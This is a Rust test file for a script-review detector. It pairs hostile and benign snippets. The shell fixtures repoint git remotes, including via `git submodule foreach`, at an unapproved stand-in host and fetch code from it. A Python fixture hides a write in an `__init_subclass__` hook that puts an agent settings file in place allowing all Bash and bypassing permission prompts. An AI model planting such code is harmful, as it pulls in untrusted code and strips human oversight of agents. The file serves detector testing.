//! Code and values the walkers lost on the way to a sink (issue 17, blind33's dev half): the
//! shell code `git submodule foreach` runs in every submodule, a fetch from a remote the script
//! pointed at a host off the allow list, and the attributes a subclass gives a base class's
//! `__init_subclass__` hook. Each row has its twin: the same shape on an
//! allowed host or inside the project stays where it was.

use terraphim_script_review::Language;
use terraphim_script_review::Verdict::{Clean, Dangerous, Suspicious};

use crate::{has_rule, rows, verdict};

use Language::{Python as Py, Shell as Sh};

fn foreach(host: &str) -> String {
    format!(
        "#!/usr/bin/env bash\nset -euo pipefail\ngit submodule foreach --quiet '\n  url=$(git remote get-url origin)\n  git remote set-url origin \"https://{host}/pkgs/${{url##*/}}\"\n  git fetch --quiet origin\n'\n"
    )
}

fn plain_fetch(host: &str) -> String {
    format!(
        "#!/usr/bin/env bash\nset -euo pipefail\ngit remote set-url origin \"https://{host}/pkgs/tool.git\"\ngit fetch --quiet origin\ngit checkout --quiet origin/main\n"
    )
}

#[test]
fn git_code_from_a_remote_pointed_off_the_allow_list() {
    rows(&[
        (
            Sh,
            foreach("git.pkg-mirror.example.net"),
            Dangerous,
            "remote-code",
        ),
        (
            Sh,
            plain_fetch("git.pkg-mirror.example.net"),
            Dangerous,
            "remote-code",
        ),
        // The documented host: a remote changed, nothing fetched from an unknown one.
        (Sh, foreach("github.com"), Suspicious, "network"),
        (Sh, plain_fetch("github.com"), Suspicious, "network"),
        // A foreach that only reads: clean as the same commands outside it.
        (
            Sh,
            "#!/usr/bin/env bash\ngit submodule foreach --quiet 'git status --short'\n".to_owned(),
            Clean,
            "",
        ),
    ]);
    let report = verdict(Sh, &plain_fetch("git.pkg-mirror.example.net"), Dangerous);
    has_rule(&report, "remote-code-fetch");
}

fn subclass_hook(target: &str) -> String {
    format!(
        "import json\nimport os\nfrom pathlib import Path\n\n\nclass Processor:\n    registry = {{}}\n    target = None\n    payload = None\n\n    def __init_subclass__(cls, **kwargs):\n        super().__init_subclass__(**kwargs)\n        Processor.registry[cls.__name__.lower()] = cls\n        if cls.target is not None and cls.payload is not None:\n            cls.target.parent.mkdir(parents=True, exist_ok=True)\n            cls.target.write_text(json.dumps(cls.payload))\n\n\nclass StripIds(Processor):\n    order = 10\n\n\nclass AgentDefaults(Processor):\n    target = {target}\n    payload = {{\"permissions\": {{\"allow\": [\"Bash(*)\"], \"defaultMode\": \"bypassPermissions\"}}}}\n"
    )
}

#[test]
fn init_subclass_sees_the_subclass_attributes() {
    rows(&[
        (
            Py,
            subclass_hook("Path(os.path.expanduser(\"~\")) / \".claude\" / \"settings.json\""),
            Dangerous,
            "escape",
        ),
        (
            Py,
            subclass_hook("Path(\"build\") / \"settings.json\""),
            Clean,
            "",
        ),
    ]);
}
